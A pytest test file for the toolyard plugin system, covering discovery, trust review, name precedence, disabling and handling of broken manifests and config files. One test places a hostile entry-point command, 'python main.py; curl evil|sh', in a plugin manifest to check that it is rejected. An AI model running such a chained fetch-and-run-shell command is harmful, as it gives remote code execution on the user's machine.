"""Plugins that are found, and the problems of those that cannot run."""

import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.fakes import bounded_work
from tests.plugins.folders import PROGRAMS, make_plugin, manifest_text, plugins_in
from toolyard.config import load_config
from toolyard.doctor import run_checks
from toolyard.errors import ConfigError
from toolyard.plugins.package.command_line import Programs
from toolyard.plugins.package.discovery import (
    MAX_FOLDERS,
    Changes,
    PluginRoot,
    Plugins,
    find_plugin_folders,
    list_roots,
    shipped_folder,
)
from toolyard.plugins.package.plugin import Origin, Plugin, PluginState
from toolyard.plugins.package.trust import Trust
from toolyard.yard.yard import Yard


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "all").mkdir()
    return tmp_path / "all"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


def refresh(plugins: Plugins) -> Plugins:
    plugins.refresh()
    return plugins


def refresh_only_plugin(plugins: Plugins) -> Plugin:
    plugins.refresh()
    (plugin,) = plugins.all
    return plugin


def states(plugins: Plugins) -> dict[str, PluginState]:
    plugins.refresh()
    return {plugin.folder.name: plugin.state for plugin in plugins.all}


@pytest.mark.requirement("plugin:discovery")
def test_plugins_are_found_in_every_plugin_folder(tmp_path: Path) -> None:
    project, home, given = tmp_path / "project", tmp_path / "home", tmp_path / "given"
    make_plugin(home / "plugins", "InHome")
    make_plugin(project / "Plugin", "InPlugin")
    make_plugin(project / "plugins", "InPlugins")
    make_plugin(given, "Given")
    (home / "plugins/no-plugin").mkdir()
    (home / "plugins/file").write_text("")
    roots = [root for root in list_roots(project, home, [given]) if root.origin is not Origin.SHIPPED]
    plugins = refresh(Plugins(roots, home=home, project=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
    assert [(p.name, p.origin) for p in plugins.all] == [
        ("Given", Origin.GIVEN),
        ("InHome", Origin.HOME),
        ("InPlugin", Origin.PROJECT),
        ("InPlugins", Origin.PROJECT),
    ]
    assert all(plugin.is_ready for plugin in plugins.all), [plugin.reason for plugin in plugins.all]


@pytest.mark.requirement("plugin:discovery")
def test_a_shipped_plugin_needs_no_review_under_whatever_folder_it_is_found(root: Path, home: Path) -> None:
    make_plugin(root, "Ours")
    make_plugin(root.parent / "theirs", "Theirs")
    roots = [
        PluginRoot(root, Origin.GIVEN),
        PluginRoot(root.parent / "theirs", Origin.HOME),
        PluginRoot(root, Origin.SHIPPED),
    ]
    plugins = refresh(Plugins(roots, home=home, project=home, trust=Trust(home), programs=PROGRAMS))
    assert [(p.name, p.origin, p.state) for p in plugins.all] == [
        ("Ours", Origin.SHIPPED, PluginState.READY),
        ("Theirs", Origin.HOME, PluginState.NEEDS_REVIEW),
    ]


@pytest.mark.requirement("plugin:command")
def test_a_shipped_plugin_runs_in_our_interpreter_and_others_in_the_owners(root: Path, home: Path) -> None:
    make_plugin(root, "Ours")
    make_plugin(root.parent / "theirs", "Theirs")
    roots = [PluginRoot(root, Origin.SHIPPED), PluginRoot(root.parent / "theirs", Origin.HOME)]
    programs = Programs(os.defpath, python="/opt/theirs/python")
    plugins = refresh(Plugins(roots, home=home, project=home, trust=Trust(home), programs=programs))
    assert [p.command.argv[0] for p in plugins.all if p.command] == [sys.executable, "/opt/theirs/python"]


@pytest.mark.requirement("plugin:discovery")
def test_the_shipped_folder_is_the_one_of_the_checkout_or_of_the_package() -> None:
    checkout = Path(__file__).parents[2] / "plugins"
    folder = shipped_folder()
    assert folder == checkout if folder else not checkout.is_dir()


@pytest.mark.requirement("plugin:discovery")
def test_a_folder_that_is_itself_a_plugin_counts_as_one(root: Path, home: Path) -> None:
    folder = make_plugin(root, "Single")
    assert refresh_only_plugin(plugins_in(folder, home=home)).name == "Single"


@pytest.mark.requirement("plugin:discovery")
def test_nothing_is_made_and_nothing_found_where_there_are_no_plugin_folders(tmp_path: Path) -> None:
    roots = [root for root in list_roots(tmp_path / "project", tmp_path / "home") if root.origin is not Origin.SHIPPED]
    plugins = Plugins(
        roots, home=tmp_path / "home", project=tmp_path / "home", trust=Trust(tmp_path / "home"), programs=PROGRAMS
    )
    assert (plugins.refresh(), plugins.all, plugins.watched_folders()) == (Changes(), (), frozenset())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.requirement("plugin:discovery")
def test_seventy_plugins_are_read_quickly_and_read_again_more_quickly(root: Path, home: Path) -> None:
    for number in range(70):
        make_plugin(root, f"P{number}", config="A=1\n")
    plugins = plugins_in(root, home=home)
    with bounded_work():
        assert len(plugins.refresh().added) == 70
        assert not plugins.refresh()


@pytest.mark.requirement("plugin:disabled")
@pytest.mark.parametrize("both", [False, True])
def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> None:
    folder = make_plugin(root, "Blocked")
    manifest = folder / "plugin-manifest.json"
    shutil.copy(manifest, f"{manifest}.block")
    if not both:
        manifest.unlink()
    plugin = refresh_only_plugin(plugins_in(root, home=home))
    assert (plugin.name, plugin.state, plugin.manifest is not None) == ("Blocked", PluginState.DISABLED, True)
    assert ".block" in plugin.reason


@pytest.mark.requirement("plugin:disabled", "s:S-90")
def test_a_plugin_is_disabled_by_command_in_every_run_until_it_is_enabled(root: Path, home: Path) -> None:
    before = (make_plugin(root, "Some") / "plugin-manifest.json").read_bytes()
    plugins = plugins_in(root, home=home)
    plugins.disable(refresh_only_plugin(plugins))
    assert refresh_only_plugin(plugins).state is PluginState.DISABLED
    assert "toolyard plugin enable Some" in refresh_only_plugin(plugins_in(root, home=home)).reason
    assert (home / "disabled.json").stat().st_mode & 0o777 == 0o600
    plugins.enable(refresh_only_plugin(plugins))
    assert refresh_only_plugin(plugins_in(root, home=home)).state is PluginState.READY
    assert (root / "Some/plugin-manifest.json").read_bytes() == before


@pytest.mark.requirement("plugin:off-by-default")
def test_a_plugin_that_is_off_by_default_waits_for_its_owner(root: Path, home: Path) -> None:
    make_plugin(root, "Some", enabledByDefault=False)
    plugins = plugins_in(root, home=home)
    plugin = refresh_only_plugin(plugins)
    assert (plugin.state, "toolyard plugin enable Some" in plugin.reason) == (PluginState.DISABLED, True)
    plugins.enable(plugin)
    assert refresh_only_plugin(plugins_in(root, home=home)).state is PluginState.READY
    plugins.disable(refresh_only_plugin(plugins))
    assert refresh_only_plugin(plugins_in(root, home=home)).state is PluginState.DISABLED
    plugins.enable(refresh_only_plugin(plugins))
    assert refresh_only_plugin(plugins).state is PluginState.READY


@pytest.mark.requirement("plugin:disabled")
def test_nothing_runs_while_nobody_can_tell_what_is_disabled(root: Path, home: Path) -> None:
    make_plugin(root, "Some")
    plugins = refresh(plugins_in(root, home=home))
    home.mkdir()
    (home / "disabled.json").write_text("{ half")
    current = plugins.get_current("Some")
    assert current is not None
    assert (current.state, "disabled.json is not valid JSON" in current.reason) == (PluginState.DISABLED, True)


@pytest.mark.requirement("plugin:disabled")
def test_disabling_takes_effect_at_the_next_call_also_from_another_process(root: Path, home: Path) -> None:
    make_plugin(root, "Some")
    running, other = refresh(plugins_in(root, home=home)), refresh(plugins_in(root, home=home))
    other.disable(other.all[0])
    current = running.get_current("Some")
    assert current is not None
    assert current.state is PluginState.DISABLED


@pytest.mark.requirement("s:S-85", "r:R30")
def test_a_second_plugin_of_the_same_name_is_refused_and_told(root: Path, home: Path) -> None:
    make_plugin(root, "Same", folder="A")
    make_plugin(root, "Same", folder="B")
    plugins = plugins_in(root, home=home)
    assert states(plugins) == {"A": PluginState.READY, "B": PluginState.DUPLICATE}
    assert str(root / "A") in plugins.all[1].reason
    holder = plugins.get("Same")
    assert holder is not None
    assert holder.folder == root / "A"
    plugins.disable(holder)
    assert states(plugins) == {"A": PluginState.DISABLED, "B": PluginState.READY}


@pytest.mark.requirement("s:S-85")
def test_an_unreviewed_plugin_takes_no_name_from_one_that_may_run(root: Path, home: Path) -> None:
    make_plugin(root / "untrusted", "Same")
    make_plugin(root / "trusted", "Same")
    plugins = plugins_in(root / "untrusted", root / "trusted", home=home, trusted=[root / "trusted"])
    waiting, running = refresh(plugins).all
    assert (waiting.state, running.state) == (PluginState.NEEDS_REVIEW, PluginState.READY)
    assert waiting.reason.endswith(f"until then the one in {running.folder} runs")
    assert plugins.get("Same") == running


@pytest.mark.requirement("plugin:same-name", "plugin:discovery")
def test_of_plugins_with_one_name_the_given_one_wins_then_home_project_and_shipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, home, shipped, given = (tmp_path / name for name in ("project", "home", "shipped", "given"))
    monkeypatch.setattr("toolyard.plugins.package.discovery.shipped_folder", lambda: shipped)
    folders = [
        make_plugin(root, "Same")
        for root in (given, home / "plugins", project / "Plugin", project / "plugins", shipped)
    ]
    roots = list_roots(project, home, [given])
    trust = Trust(home, folders=[tmp_path])
    plugins = Plugins(roots, home=home, project=home, trust=trust, programs=PROGRAMS)
    for number, folder in enumerate(folders):
        refresh(plugins)
        first, *others = [plugin for plugin in plugins.all if plugin.state is not PluginState.DISABLED]
        assert (first.folder, first.state, first.hides) == (folder, PluginState.READY, tuple(folders[number + 1 :]))
        assert [(one.state, one.hidden_by) for one in others] == [(PluginState.DUPLICATE, folder)] * len(others)
        assert all(f"hidden by the plugin in {folder}" in one.reason for one in others)
        assert plugins.get("Same") == first
        plugins.disable(first)


@pytest.mark.requirement("plugin:same-name")
def test_what_is_hidden_stays_hidden_after_its_review_and_what_changed_keeps_its_name(root: Path, home: Path) -> None:
    for place in ("first", "second", "third"):
        make_plugin(root / place, "Same")
    trusted = [root / "second"]
    plugins = plugins_in(root / "first", root / "second", root / "third", home=home, trusted=trusted)
    assert [plugin.state for plugin in refresh(plugins).all] == [
        PluginState.NEEDS_REVIEW,
        PluginState.READY,
        PluginState.DUPLICATE,  # no review would give it the name
    ]
    trust = Trust(home, folders=trusted)
    trust.allow(trust.review(plugins.all[0], ()), at="now")
    assert [plugin.state for plugin in refresh(plugins).all] == [
        PluginState.READY,
        PluginState.DUPLICATE,
        PluginState.DUPLICATE,
    ]
    (root / "first/Same/main.py").write_text("print('changed')\n")
    changed, hidden, _ = refresh(plugins).all
    assert (changed.state, hidden.state, hidden.hidden_by) == (
        PluginState.CHANGED,
        PluginState.DUPLICATE,  # nobody asked for it to answer under this name
        changed.folder,
    )
    assert plugins.get("Same") == changed
    plugins.disable(changed)
    assert [plugin.state for plugin in refresh(plugins).all] == [
        PluginState.DISABLED,
        PluginState.READY,
        PluginState.DUPLICATE,
    ]


BREAKS: dict[str, Callable[[Path], object]] = {
    "its manifest": lambda folder: (folder / "plugin-manifest.json").write_text("{"),
    "its script": lambda folder: (folder / "main.py").unlink(),
    "its settings": lambda folder: (folder / "config.env").write_bytes(b"\xff\x00"),
}


@pytest.mark.requirement("plugin:same-name", "s:S-85")
@pytest.mark.parametrize("what", BREAKS)
def test_no_other_plugin_answers_for_an_allowed_one_that_breaks(root: Path, home: Path, what: str) -> None:
    mine = make_plugin(root / "first", "Same", folder="mine")
    make_plugin(root / "second", "Same")
    before = refresh(plugins_in(root / "first", root / "second", home=home, trusted=[root / "second"]))
    trust = Trust(home)
    trust.allow(trust.review(before.all[0], ()), at="now")
    BREAKS[what](mine)
    plugins = refresh(plugins_in(root / "first", root / "second", home=home, trusted=[root / "second"]))
    broken, other = plugins.all
    assert (broken.name, broken.state, other.state) == ("Same", PluginState.BROKEN, PluginState.DUPLICATE)
    assert plugins.get("Same") == broken


@pytest.mark.requirement("plugin:replaces-file-operator", "s:S-85")
@pytest.mark.parametrize("name", ["FileOperator", "ServerFileOperator"])
async def test_a_plugin_of_the_owner_may_be_called_file_operator_once_the_built_in_one_is_off(
    tmp_path: Path, name: str
) -> None:
    place = make_plugin(tmp_path / "given", name)
    (place / "main.py").write_text("""print('{"status": "success", "result": "mine"}')\n""")
    (tmp_path / "project").mkdir()
    (tmp_path / "home").mkdir()
    given: dict[str, Any] = {"plugin_folders": [tmp_path / "given"], "trusts_given": True}
    async with Yard(load_config(tmp_path / "project", tmp_path / "home", **given)) as yard:
        assert "result" not in (await yard.call(name, {"command": "ListAllowedDirectories"})).data
        plugin = next(one for one in refresh(yard.plugins.plugins).all if one.name == name)
        assert (plugin.state, "built_in.FileOperator = false" in plugin.reason) == (PluginState.SHADOWED, True)
    (tmp_path / "home/config.toml").write_text("built_in.FileOperator = false\n")
    async with Yard(load_config(tmp_path / "project", tmp_path / "home", **given)) as yard:
        assert (await yard.call(name, {"command": "ListAllowedDirectories"})).data == {"result": "mine"}
        other = "FileOperator" if name == "ServerFileOperator" else "ServerFileOperator"
        refused = (await yard.call(other, {})).error
        assert refused is not None
        assert refused.code == "NOT_FOUND"


@pytest.mark.requirement("plugin:replaces-file-operator")
@pytest.mark.parametrize("value", ["{ Read = false }", "{ FileOperator = 5 }", "true"])
def test_what_cannot_be_replaced_cannot_be_turned_off(tmp_path: Path, home: Path, value: str) -> None:
    home.mkdir()
    (home / "config.toml").write_text(f"built_in = {value}\n")
    with pytest.raises(ConfigError, match="built_in"):
        load_config(tmp_path, home)


@pytest.mark.requirement("s:S-85")
@pytest.mark.parametrize("name", ["FileOperator", "fileoperator"])
def test_the_names_of_built_in_tools_are_reserved(root: Path, home: Path, name: str) -> None:
    make_plugin(root, name)
    plugin = refresh_only_plugin(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
    assert (plugin.state, "built-in" in plugin.reason) == (PluginState.SHADOWED, True)


@pytest.mark.requirement("plugin:discovery")
@pytest.mark.parametrize("kind", ["messagePreprocessor", "service", "hybridservice"])
def test_a_plugin_of_a_type_that_cannot_run_here_is_listed_with_the_reason(root: Path, home: Path, kind: str) -> None:
    make_plugin(root, "Theirs", pluginType=kind, entryPoint={"script": "main.js"})
    plugin = refresh_only_plugin(plugins_in(root, home=home))
    assert (plugin.state, bool(plugin.reason)) == (PluginState.UNSUPPORTED, True)


def spoil(folder: Path, how: str) -> None:
    manifest = folder / "plugin-manifest.json"
    text = manifest.read_text()
    manifest.unlink()
    match how:
        case "broken":
            manifest.write_text(text.replace('"pluginType"', "pluginType"))
        case "half":
            manifest.write_text(text[: len(text) // 2])
        case "empty":
            manifest.write_text("")
        case "huge":
            with manifest.open("wb") as file:
                file.truncate(100 * 2**20)
        case "loop":
            manifest.symlink_to(manifest.name)
        case "fifo":
            os.mkfifo(manifest)
        case "folder":
            manifest.mkdir()
        case "binary":
            manifest.write_bytes(text.replace("tests", "\udce9", 1).encode(errors="surrogateescape"))
        case "deep":
            manifest.write_text('{"name": ' + "[" * 100_000)
        case "no command":
            manifest.write_text(manifest_text("Bad", entryPoint={"type": "python"}))


SPOILED = ["broken", "half", "empty", "huge", "loop", "fifo", "folder", "binary", "deep", "no command"]


@pytest.mark.requirement("r:R30")
@pytest.mark.parametrize("how", SPOILED)
def test_a_bad_manifest_costs_only_its_own_plugin(root: Path, home: Path, how: str) -> None:
    make_plugin(root, "Good")
    spoil(make_plugin(root, "Bad"), how)
    plugins = plugins_in(root, home=home)
    assert states(plugins) == {"Bad": PluginState.BROKEN, "Good": PluginState.READY}
    bad = plugins.all[0]
    assert bad.problems
    assert bad.reason.startswith("plugin-manifest.json:")
    if how in ("broken", "half", "huge", "binary", "no command"):
        assert all((problem.line, problem.column) >= (1, 1) for problem in bad.problems), bad.problems


@pytest.mark.requirement("r:R30")
@pytest.mark.parametrize("how", SPOILED)
def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root: Path, home: Path, how: str) -> None:
    folder = make_plugin(root, "Bad", version="1")
    plugins = plugins_in(root, home=home)
    first = refresh_only_plugin(plugins)
    spoil(folder, how)
    last_good = refresh_only_plugin(plugins)
    assert (last_good.state, last_good.manifest) == (PluginState.READY, first.manifest)
    assert "last good version" in last_good.reason
    assert any(not problem.warning for problem in last_good.problems)
    assert not plugins.refresh()
    manifest = folder / "plugin-manifest.json"
    if manifest.is_dir():
        manifest.rmdir()
    else:
        manifest.unlink()
    manifest.write_text(manifest_text("Bad", version="2"))
    mended = refresh_only_plugin(plugins)
    assert mended.manifest is not None
    assert (mended.manifest.version, mended.reason, mended.problems) == ("2", "", ())


@pytest.mark.requirement("r:R30")
def test_the_place_of_a_fault_is_told(root: Path, home: Path) -> None:
    folder = make_plugin(root, "Bad")
    (folder / "plugin-manifest.json").write_bytes(b'{\n  "name": "B\xff"\n}')
    problem = refresh_only_plugin(plugins_in(root, home=home)).problems[0]
    assert str(problem) == "plugin-manifest.json:2:13: is not UTF-8. Fix: save it as UTF-8"


@pytest.mark.requirement("r:R30")
def test_links_that_lead_nowhere_or_in_circles_are_listed_and_hurt_nobody(root: Path, home: Path) -> None:
    make_plugin(root, "Good")
    (root / "circle").symlink_to("circle")
    (root / "dangling").symlink_to("absent")
    (root / "again").symlink_to(root)
    make_plugin(root.parent / "elsewhere", "Linked")
    (root / "linked").symlink_to(root.parent / "elsewhere/Linked")
    plugins = plugins_in(root, home=home, trusted=[root, root.parent / "elsewhere"])
    assert states(plugins) == {
        "circle": PluginState.BROKEN,
        "dangling": PluginState.BROKEN,
        "Good": PluginState.READY,
        "Linked": PluginState.READY,
    }


@pytest.mark.requirement("r:R30", "plugin:config:file")
def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
    folder = make_plugin(root, "Some", config='TOKEN="whole"\n')
    plugins = plugins_in(root, home=home)
    assert refresh_only_plugin(plugins).config == {"TOKEN": "whole"}
    (folder / "config.env").write_text('TOKEN="ne')
    last_good = refresh_only_plugin(plugins)
    assert (last_good.state, last_good.config) == (PluginState.READY, {"TOKEN": "whole"})
    assert "config.env:1" in last_good.reason
    fresh = refresh_only_plugin(plugins_in(root, home=home))
    assert (fresh.state, fresh.config) == (PluginState.BROKEN, {})
    (folder / "config.env").write_text('TOKEN="new"\n')
    assert plugins.refresh() == Changes(changed=("Some",))
    assert plugins.all[0].config == {"TOKEN": "new"}


@pytest.mark.requirement("plugin:config:file")
def test_an_odd_line_of_config_env_is_a_warning(root: Path, home: Path) -> None:
    make_plugin(root, "Some", config="A=1\nwhat?\n")
    plugin = refresh_only_plugin(plugins_in(root, home=home))
    assert (plugin.state, plugin.config) == (PluginState.READY, {"A": "1"})
    assert [(p.file, p.line, p.warning) for p in plugin.problems] == [("config.env", 2, True)]


@pytest.mark.requirement("s:S-90")
def test_secrets_that_other_users_could_read_are_told(root: Path, home: Path) -> None:
    folder = make_plugin(root, "Some", config="API_KEY=abc\n")
    assert refresh_only_plugin(plugins_in(root, home=home)).problems == ()
    (folder / "config.env").chmod(0o644)
    assert [p.fix for p in refresh_only_plugin(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]


@pytest.mark.requirement("plugin:command", "s:S-81")
def test_a_command_that_cannot_run_breaks_the_plugin_and_says_why(root: Path, home: Path) -> None:
    make_plugin(root, "Some", entryPoint={"command": "python main.py; curl evil|sh"})
    plugin = refresh_only_plugin(plugins_in(root, home=home))
    assert (plugin.state, plugin.command) == (PluginState.BROKEN, None)
    assert plugin.reason.startswith("entryPoint.command: ';'")


@pytest.mark.requirement("r:R31")
def test_a_refresh_tells_what_was_added_changed_and_removed(root: Path, home: Path) -> None:
    make_plugin(root, "Stays")
    goes = make_plugin(root, "Goes")
    plugins = plugins_in(root, home=home)
    assert plugins.refresh() == Changes(added=("Goes", "Stays"))
    assert plugins.refresh() == Changes()
    shutil.rmtree(goes)
    make_plugin(root, "Comes")
    (root / "Stays/main.py").write_text("print('other')\n")
    assert plugins.refresh() == Changes(added=("Comes",), changed=("Stays",), removed=("Goes",))
    assert plugins.get("Goes") is None


@pytest.mark.requirement("r:R31")
def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) -> None:
    folder = make_plugin(root, "Some", version="1")
    plugins = refresh(plugins_in(root, home=home))
    before = plugins.get_current("Some")
    assert plugins.get_current("Some") is before
    shutil.rmtree(folder)
    make_plugin(root, "Some", version="2")
    after = plugins.get_current("Some")
    assert before is not None
    assert after is not None
    assert before.manifest is not None
    assert after.manifest is not None
    assert (before.manifest.version, after.manifest.version) == ("1", "2")
    shutil.rmtree(folder)
    assert plugins.get_current("Some") is None


@pytest.mark.requirement("plugin:environment:shared")
def test_the_keys_of_other_plugins_are_known(root: Path, home: Path) -> None:
    make_plugin(root, "A", config="A_KEY=1\n")
    make_plugin(root, "B", config="B_KEY=1\n")
    assert refresh(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}


@pytest.mark.requirement("plugin:discovery")
def test_each_folder_is_one_plugin_however_often_it_is_found(root: Path) -> None:
    folder = make_plugin(root, "Some")
    folders = list(
        find_plugin_folders(
            [PluginRoot(root, Origin.PROJECT), PluginRoot(folder, Origin.GIVEN), PluginRoot(root, Origin.HOME)]
        )
    )
    assert folders == [(folder, PluginRoot(root, Origin.PROJECT), None)]


@pytest.mark.requirement("plugin:left-out")
def test_what_is_left_out_of_a_folder_with_too_many_plugins_is_told(tmp_path: Path) -> None:
    folder, many = tmp_path / "home/plugins", MAX_FOLDERS + 3
    for number in reversed(range(many)):
        (folder / f"P{number:05}").mkdir(parents=True)
    (folder / "P").mkdir()  # comes first
    folders = list(find_plugin_folders([PluginRoot(folder, Origin.HOME)]))
    paths = [path.name for path, _, problem in folders if not problem]
    assert paths == ["P", *(f"P{number:05}" for number in range(MAX_FOLDERS - 1))]
    message = f"4 of its {many + 1} folders are left out: all after 'P{MAX_FOLDERS - 2:05}'"
    assert [(path, problem.message) for path, _, problem in folders if problem] == [(folder, message)]
    plugins = refresh(plugins_in(folder, home=tmp_path / "home"))
    assert [(one.state, one.reason) for one in plugins.all if one.folder == folder] == [(PluginState.BROKEN, message)]
    (tmp_path / "project").mkdir()
    checks = list(run_checks(str(tmp_path / "project"), str(tmp_path / "home")))
    (check,) = [one for one in checks if one.name == "plugins" and message in one.detail]
    assert (check.health, check.detail) == ("warn", f"{folder}: {message}")
    assert check.fix == f"Keep at most {MAX_FOLDERS} plugins in one folder."
